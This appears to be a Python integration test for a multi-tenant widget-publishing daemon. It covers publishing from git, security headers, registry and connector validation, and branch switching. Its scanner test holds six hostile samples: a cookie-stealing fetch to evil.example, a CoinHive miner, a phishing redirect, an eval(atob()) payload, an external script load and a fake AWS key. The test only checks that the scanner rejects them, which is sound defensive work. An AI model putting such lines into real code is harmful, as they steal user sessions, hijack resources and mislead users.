"""The extensions platform against a real daemon (SPEC §10, issue 15):
repositories made with git at test time and watched by widgetd.

- a push to the watched branch publishes within seconds, and the widgets
  are served (manifest, entry HTML rewritten, assets byte for byte) with
  every security header of platform-docs §23, on their tenant's hosts
  only;
- a push with a violation of each of the six scan categories fails with
  CONTENT_SCAN_REJECTED and the category, and the previous generation
  keeps serving byte for byte; so does a registry with errors, whose
  details name file:line:col and the attribute path;
- connectors_registry.json syncs in the same switch as the widgets; a
  broken one (or one clashing with the tenant's own) fails the build and
  changes neither;
- widgetctl publish, builds and status; a branch switch replaces what
  the repository published; removing the repository unpublishes it."""

import json
import os
import re
import signal
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from wdtest import TEST_EGRESS, check, fail, need_root, request  # noqa: E402
from upstream import Upstream  # noqa: E402
from extutil import (BASE, ExtDaemon, Repo, check_security_headers,  # noqa
                     registry, served, widget)

need_root()

INDEX = ('<!doctype html><html><head><link rel="stylesheet" href="style.css">'
         '</head><body><img src="img/logo.png" srcset="img/logo.png 1x">'
         '<script src="app.js"></script><div id="w">hello</div></body></html>')
APP = 'document.getElementById("w").textContent = "ready";\n'

# One sample per category of platform-docs §23, each a file of its own.
VIOLATIONS = {
    "crypto_mining": ("miner.js", 'var m = new CoinHive.Anonymous("k");\n'
                      "m.start();\n"),
    "data_exfiltration": ("steal.js", 'fetch("https://evil.example/c?d=" '
                          "+ document.cookie);\n"),
    "phishing_redirect": ("go.js", 'window.location = '
                          '"https://login-acme.example/signin";\n'),
    "obfuscation": ("ob.js", 'eval(atob("YWxlcnQoMSk="));\n'),
    "external_script_loading": ("ext.html", '<script src="https://evil.'
                                'example/x.js"></script>\n'),
    "credential_exposure": ("keys.js", 'var k = "AKIAJ7Q3ZL5XK2PVH4RD";\n'),
}

up = Upstream()
up.route("/weather", lambda r: (200, {"Content-Type": "application/json"},
                                b'{"temp": 21}'))
d = ExtDaemon(tenants=[], workers=2, egress=TEST_EGRESS,
              extensions="poll_interval = 1;")
repo = Repo(d.dir)
# The tenant's own ("manual") connector; the repository may not reuse it.
d.write_registry(json.dumps({"connectors": [{
    "name": "Own", "permalink": "own", "url": up.url("/weather"),
    "method": "GET"}]}), os.path.join(d.dir, "reg-acme.json"))
d.set_tenants([("acme", ["acme.example"], repo.bare, None),
               ("other", [], None, None)])
H = "acme.example"


def get(path, host=H, headers=()):
    return request(d.port, "GET", path, headers=headers, host=host)


def good_tree():
    repo.write("extensions_registry.json", registry(
        [widget("hello", "widgets/hello", imageSrc="widgets/hello/t.png")],
        scripts=[{"name": "acme-util", "path": "js/util.js"}],
        stylesheets=[{"name": "acme-theme", "path": "css/theme.css"}]))
    repo.write("widgets/hello/index.html", INDEX)
    repo.write("widgets/hello/app.js", APP)
    repo.write("widgets/hello/style.css", "#w { color: teal; }\n")
    repo.write("widgets/hello/img/logo.png", b"\x89PNG\r\n\x1a\nlogo")
    repo.write("widgets/hello/t.png", b"\x89PNG\r\n\x1a\nthumb")
    repo.write("js/util.js", "export const one = 1;\n")
    repo.write("css/theme.css", ":root { --c: teal; }\n")


def snapshot_of_serving(m):
    """Everything the live generation serves, for byte comparisons."""
    out = {"manifest": json.dumps(m, sort_keys=True)}
    urls = [w["entryUrl"] for w in m["widgets"] if "entryUrl" in w]
    urls += [s["url"] for s in m["scripts"] + m["stylesheets"]]
    urls.append(m["widgets"][0]["entryUrl"].replace("index.html", "app.js"))
    for u in urls:
        st, _, body = get(u)
        check(st == 200, "live file %s is served" % u)
        out[u] = body
    return out


def still_serving(before, what):
    st, _, m = d.manifest(H)
    check(st == 200, "%s: the manifest is still served" % what)
    now = snapshot_of_serving(m)
    check(now == before, "%s: the previous generation serves byte for "
          "byte" % what)


try:
    # --- A first push publishes (the daemon publishes at start). ---------
    good_tree()
    c1 = repo.commit("first widgets")
    d.start()
    m = d.wait_generation(H, lambda m: m["commit"] == c1)
    check(m["branch"] == "main", "the manifest names the branch")
    gen1 = m["generation"]
    check(re.fullmatch(r"\d+-[0-9a-f]{12}", gen1) is not None,
          "the generation is a number and 12 hex digits of the commit")
    w = m["widgets"][0]
    check(w["type"] == "hello" and w["version"] == "1.0.0",
          "the widget carries its registry fields with defaults")
    entry = w["entryUrl"]
    check(entry == "%s/%s/files/widgets/hello/index.html" % (BASE, gen1),
          "the entry URL is the hosted one")
    check(w["imageSrc"] == "%s/%s/files/widgets/hello/t.png" % (BASE, gen1),
          "a relative thumbnail becomes a hosted URL")
    check(m["scripts"][0]["url"] == "%s/%s/files/js/util.js" % (BASE, gen1),
          "scripts get hosted URLs")

    # Served with the security headers, rewritten, byte for byte.
    st, h, body = get(entry)
    check(st == 200 and h["content-type"].startswith("text/html"),
          "the entry HTML is served as HTML")
    check_security_headers(h, what="the entry HTML")
    check(h["x-frame-options"] == "SAMEORIGIN", "X-Frame-Options SAMEORIGIN")
    check("immutable" in h["cache-control"], "a generation's files are "
          "immutable")
    hosted = "%s/%s/files/widgets/hello/" % (BASE, gen1)
    check(('src="%sapp.js"' % hosted).encode() in body and
          ('href="%sstyle.css"' % hosted).encode() in body and
          ('srcset="%simg/logo.png 1x"' % hosted).encode() in body,
          "src, href and srcset are rewritten to hosted URLs")
    st, h, body = get(hosted + "app.js")
    check(st == 200 and body == APP.encode(), "an asset is the repository's "
          "bytes")
    check(h["content-type"].startswith("text/javascript"), "JS type")
    check_security_headers(h, what="a script")
    st, h, body = get(hosted + "img/logo.png")
    check(st == 200 and h["content-type"] == "image/png" and
          body == b"\x89PNG\r\n\x1a\nlogo", "an image byte for byte")

    st, h, _ = d.manifest(H)
    check_security_headers(h, what="the manifest")
    check(h["etag"] == '"%s"' % gen1 and "no-cache" in h["cache-control"],
          "the manifest is revalidated by an ETag naming the generation")
    st, h2, body = get(BASE + "/manifest.json",
                       headers=['If-None-Match: "%s"' % gen1])
    check(st == 304 and body == b"", "If-None-Match answers 304")
    st, _, body = get(BASE + "/manifest.json",
                      headers=['If-None-Match: "x", W/"%s"' % gen1])
    check(st == 304, "a weak tag in a list of tags matches")
    st, _, body = get(BASE + "/manifest.json",
                      headers=['If-None-Match: "%sx"' % gen1])
    check(st == 200 and body, "a longer tag does not match")
    st, _, body = request(d.port, "HEAD", entry, host=H)
    check(st == 200, "HEAD of a file")
    st, h, body = request(d.port, "POST", entry, host=H)
    check(st == 405 and h.get("allow") == "GET, HEAD" and
          json.loads(body)["errors"]["code"] == "METHOD_NOT_ALLOWED",
          "anything but GET and HEAD is 405 with Allow")

    # Assets are served on their tenant's hosts only.
    st, _, _ = get(entry, host="localhost")
    check(st == 404, "another tenant's host does not serve them")
    st, _, body = get(BASE + "/manifest.json", host="localhost")
    check(st == 404 and json.loads(body)["errors"]["code"] == "NOT_FOUND",
          "a tenant without a repository has no manifest")
    st, _, _ = get("%s/%s/files/widgets/hello/nope.js" % (BASE, gen1))
    check(st == 404, "a file that is not published is 404")
    st, _, _ = get("%s/1-000000000000/files/widgets/hello/app.js" % BASE)
    check(st == 404, "another generation's URL is 404")

    b = d.builds("acme")[-1]
    check(b["state"] == "Completed" and b["commit"] == c1 and
          b["code"] is None, "the build record names the commit and state")

    # --- A push is noticed within seconds (the watcher). -----------------
    n = d.last_build("acme")
    repo.write("widgets/hello/app.js", APP + "// v2\n")
    c2 = repo.commit("v2")
    m = d.wait_generation(H, lambda m: m["commit"] == c2, timeout=20)
    gen2 = m["generation"]
    b = d.wait_build("acme", n)
    # 7 files; the changed app.js and the entry HTML (rewritten with the
    # new generation's URLs) are new, the 5 others are reused.
    check(b["state"] == "Completed" and b["files"] == 7 and
          b["reused"] == 5, "unchanged content is reused (%d of %d)" % (
              b["reused"], b["files"]))
    # The publisher remembers what it found clean: only app.js is
    # scanned again.
    check(b["scanned"] == 1 and b["scan_kept"] >= 1,
          "the push scans the changed file only (%d scanned, %d kept)" % (
              b["scanned"], b["scan_kept"]))
    st, _, body = get(m["widgets"][0]["entryUrl"].replace("index.html",
                                                          "app.js"))
    check(body == (APP + "// v2\n").encode(), "the push is served")
    st, _, _ = get(entry)
    check(st == 404, "the previous generation's URLs are gone at the switch")
    live = snapshot_of_serving(m)

    # --- Each scan category fails the build; nothing changes. ------------
    for cat, (name, text) in VIOLATIONS.items():
        n = d.last_build("acme")
        repo.write("widgets/hello/" + name, text)
        c = repo.commit("bad: " + cat)
        rc, out, err = d.publish("acme")
        check(rc == 1 and "Failed CONTENT_SCAN_REJECTED" in out,
              "%s: widgetctl publish reports the failed build" % cat)
        b = d.wait_build("acme", n)
        check(b["state"] == "Failed" and b["code"] == "CONTENT_SCAN_REJECTED"
              and b["commit"] == c, "%s: the build failed with its code" % cat)
        check(b["message"] == "Widget 'hello' rejected: content policy "
              "violation (categories: %s)" % cat,
              "%s: the message names the category: %s" % (cat, b["message"]))
        check(any(x.startswith("widgets/hello/%s:1: %s: " % (name, cat))
                  for x in b["details"]),
              "%s: a detail names file:line: category" % cat)
        still_serving(live, cat)
        repo.remove("widgets/hello/" + name)
    repo.commit("clean again")
    rc, out, _ = d.publish("acme")
    check(rc == 0 and "Completed" in out, "a clean push publishes again")
    m = d.wait_generation(H, lambda m: m["generation"] != gen2)
    live = snapshot_of_serving(m)

    # --- Registry errors: every one, with line:col and attribute path. ---
    n = d.last_build("acme")
    bad = registry([widget("hello", "/abs/dir"),
                    widget("two", "widgets/../../etc", colour="red")])
    repo.write("extensions_registry.json", bad)
    repo.commit("broken registry")
    rc, out, _ = d.publish("acme")
    b = d.wait_build("acme", n)
    check(rc == 1 and b["state"] == "Failed", "an invalid registry fails")
    lines = bad.split("\n")

    def pos(needle, nth=0):
        k = -1
        for i, ln in enumerate(lines):
            if needle in ln:
                k += 1
                if k == nth:
                    return i + 1
        fail("no %r in the registry" % needle)
    want = [
        (r"extensions_registry\.json:%d:\d+: widgets\[0\]\.source\.path: "
         r".*\[ABSOLUTE_PATH_NOT_ALLOWED\]" % pos('"/abs/dir"')),
        (r"extensions_registry\.json:%d:\d+: widgets\[1\]\.source\.path: "
         r".*\[PATH_TRAVERSAL_DETECTED\]" % pos('"widgets/../../etc"')),
        (r"extensions_registry\.json:%d:\d+: widgets\[1\]\.colour: .*" %
         pos('"colour"')),
    ]
    for rx in want:
        check(any(re.fullmatch(rx, x) for x in b["details"]),
              "the build details carry %s" % rx)
    check(b["code"] == "ABSOLUTE_PATH_NOT_ALLOWED", "the first error "
          "names the build's code")
    r = d.widgetctl("builds", "-v", "-n", "1", "-t", "acme")
    text = r.stdout.decode()
    check(r.returncode == 0 and "Failed ABSOLUTE_PATH_NOT_ALLOWED" in text
          and "widgets[1].colour" in text, "widgetctl builds -v shows them")
    still_serving(live, "an invalid registry")
    good_tree()
    repo.commit("registry fixed")

    # --- Connectors sync in the same switch; a broken one changes none. --
    conn = {"name": "Weather", "permalink": "weather",
            "url": up.url("/weather"), "method": "GET"}
    repo.write("connectors_registry.json",
               json.dumps({"connectors": [conn]}))
    repo.write("widgets/hello/app.js", APP + "// with connectors\n")
    c = repo.commit("connectors")
    rc, out, _ = d.publish("acme")
    check(rc == 0, "a push with connectors publishes")
    st, _, body = request(d.port, "GET",
                          "/widget-service/connectors/weather/execute",
                          host=H)
    check(st == 200 and json.loads(body) == {"temp": 21},
          "the synced connector answers once widgetctl publish returns")
    st, _, m = d.manifest(H)
    check(m["commit"] == c, "widgets and connectors switched together")
    st, _, _ = request(d.port, "GET", "/widget-service/connectors/weather/"
                       "execute", host="localhost")
    check(st == 404, "synced connectors are their tenant's only")
    st, _, _ = request(d.port, "GET", "/widget-service/connectors/own/"
                       "execute", host=H)
    check(st == 200, "the tenant's own connector still answers")
    live = snapshot_of_serving(m)

    n = d.last_build("acme")
    repo.write("connectors_registry.json",
               '{"connectors": [{"name": "Weather", "url": 5}]}')
    repo.write("widgets/hello/app.js", APP + "// must not go live\n")
    repo.commit("broken connectors")
    rc, out, _ = d.publish("acme")
    b = d.wait_build("acme", n)
    check(rc == 1 and b["code"] == "CONNECTOR_SYNC_FAILED" and
          "no connector was changed" in b["message"],
          "a broken connectors_registry.json fails the build")
    check(any("connectors_registry.json:1:" in x for x in b["details"]),
          "with the loader's own line:col errors")
    still_serving(live, "broken connectors")
    st, _, _ = request(d.port, "GET",
                       "/widget-service/connectors/weather/execute", host=H)
    check(st == 200, "the synced connector of the live generation answers")

    n = d.last_build("acme")
    repo.write("connectors_registry.json", json.dumps({"connectors": [
        conn, {"name": "Own", "permalink": "own", "url": up.url("/x"),
               "method": "GET"}]}))
    repo.commit("clashing connector")
    d.publish("acme")
    b = d.wait_build("acme", n)
    check(b["code"] == "CONNECTOR_SYNC_FAILED" and "'own' is both in the "
          "repository and in the tenant's registry" in " ".join(b["details"]),
          "a permalink of the tenant's own registry is refused")
    still_serving(live, "a clashing connector")
    repo.write("connectors_registry.json",
               json.dumps({"connectors": [conn]}))
    repo.commit("connectors fixed")
    rc, out, _ = d.publish("acme")
    check(rc == 0, "republishing the same synced connectors is no clash")

    # --- Publishes while the keepers have not taken the last one. --------
    # Workers wait for a generation until every keeper has it, so with the
    # keepers stopped the next publish replaces a generation nobody holds
    # and it is freed there and then.  What the parent reports of that
    # publish must not be read from it (ASan saw the tenant's name read
    # after free; without ASan the name comes out as garbage).
    keepers = list(d.children("keeper"))
    check(keepers, "the daemon has a keeper")
    for k in keepers:
        os.kill(k, signal.SIGSTOP)
    try:
        waiting = []
        for i in range(3):
            n = d.last_build("acme")
            repo.write("widgets/hello/app.js",
                       APP + "// keepers busy %d\n" % i)
            last = repo.commit("while the keepers are busy %d" % i)
            # It waits for the keepers (at most 10 s): not here.
            waiting.append(subprocess.Popen(
                [os.environ.get("WIDGETCTL") or "./widgetctl", "-c", d.conf,
                 "publish", "-t", "acme"],
                stdout=subprocess.PIPE, stderr=subprocess.PIPE))
            b = d.wait_build("acme", n)
            check(b["state"] == "Completed", "publish %d while the keepers "
                  "are stopped: %s" % (i, b["state"]))
    finally:
        for k in keepers:
            os.kill(k, signal.SIGCONT)
    for i, w in enumerate(waiting):
        out, err = w.communicate(timeout=60)
        check(w.returncode == 0 and out.decode().startswith("acme: build "),
              "publish %d reports its tenant: %r %r" % (i, out, err))
    r = d.widgetctl("status", "--json")
    check(r.returncode == 0 and {p["tenant"] for p in
                                 json.loads(r.stdout)["publishes"]} ==
          {"acme"}, "status counts them under their tenant")
    st, _, m = d.manifest(H)
    check(st == 200 and m["commit"] == last, "the last one is live")

    # --- widgetctl status counts publishes. ------------------------------
    r = d.widgetctl("status", "--json")
    st = json.loads(r.stdout)
    pubs = {p["tenant"]: p for p in st["publishes"]}
    check(pubs["acme"]["failed"] >= 9 and pubs["acme"]["completed"] >= 4,
          "status counts completed and failed publishes")
    pubpids = [p["pid"] for p in st["processes"] if p["role"] == "publisher"]
    check(len(pubpids) >= 1, "status lists the publisher")
    # It holds a tenant's unpublished code: not dumpable, so its /proc
    # files are root's even though it runs as the workers' user.  (With
    # fs.suid_dumpable 0 the uid switch clears the flag too; with 1 or 2,
    # or without root, only the prctl does.)
    check(all(os.stat("/proc/%d/status" % pid).st_uid == 0
              for pid in pubpids),
          "the publisher is not dumpable (/proc/PID/status owned by root)")
    check("publisher 0: publish: acme build" in d.logtext(),
          "every publish has its log line")

    # --- A branch switch replaces what the repository published. ---------
    repo.branch("staging")
    repo.write("extensions_registry.json", registry(
        [widget("stage", "widgets/stage")]))
    repo.remove("widgets/hello")
    repo.remove("connectors_registry.json")
    repo.write("widgets/stage/index.html", "<p>staging</p>")
    cs = repo.commit("staging only", branch="staging")
    d.set_tenants([("acme", ["acme.example"], repo.bare, "staging"),
                   ("other", [], None, None)])
    r = d.widgetctl("reload")
    check(r.returncode == 0, "reload with branch = staging")
    m = d.wait_generation(H, lambda m: m["commit"] == cs)
    check(m["branch"] == "staging" and [w["type"] for w in m["widgets"]] ==
          ["stage"], "the new branch's widgets replace the old ones")
    st, _, _ = request(d.port, "GET",
                       "/widget-service/connectors/weather/execute", host=H)
    check(st == 404, "and so do its connectors (staging has none)")
    st, _, body = get(m["widgets"][0]["entryUrl"])
    check(st == 200 and body == b"<p>staging</p>", "staging is served")

    # --- Removing the repository unpublishes it. -------------------------
    d.set_tenants([("acme", ["acme.example"], None, None),
                   ("other", [], None, None)])
    r = d.widgetctl("reload")
    check(r.returncode == 0, "reload without the repository")
    st, _, _ = d.manifest(H)
    check(st == 404, "no manifest once the repository is removed")
    st, _, _ = get(m["widgets"][0]["entryUrl"])
    check(st == 404, "its files are gone")
    from wdtest import wait_for
    check(wait_for(lambda: not d.children("publisher"), 20),
          "no publisher runs any more")
    check(wait_for(lambda: not os.path.exists(os.path.join(
        d.published("acme"), "current")), 20),
          "the published directory holds no live generation")
    # "current" goes first, then the generations, one after another.
    check(wait_for(lambda: os.listdir(os.path.join(d.published("acme"),
                                                   "gens")) == [], 20),
          "nor any generation")
    check(len(d.builds("acme")) > 0, "the build records stay")
    r = d.widgetctl("publish", "-t", "acme")
    check(r.returncode == 1 and b"has no repository" in r.stderr,
          "widgetctl publish of an unwatched tenant says why")
    check(d.stop() == 0, "the daemon stops cleanly")
finally:
    d.cleanup()
    up.close()
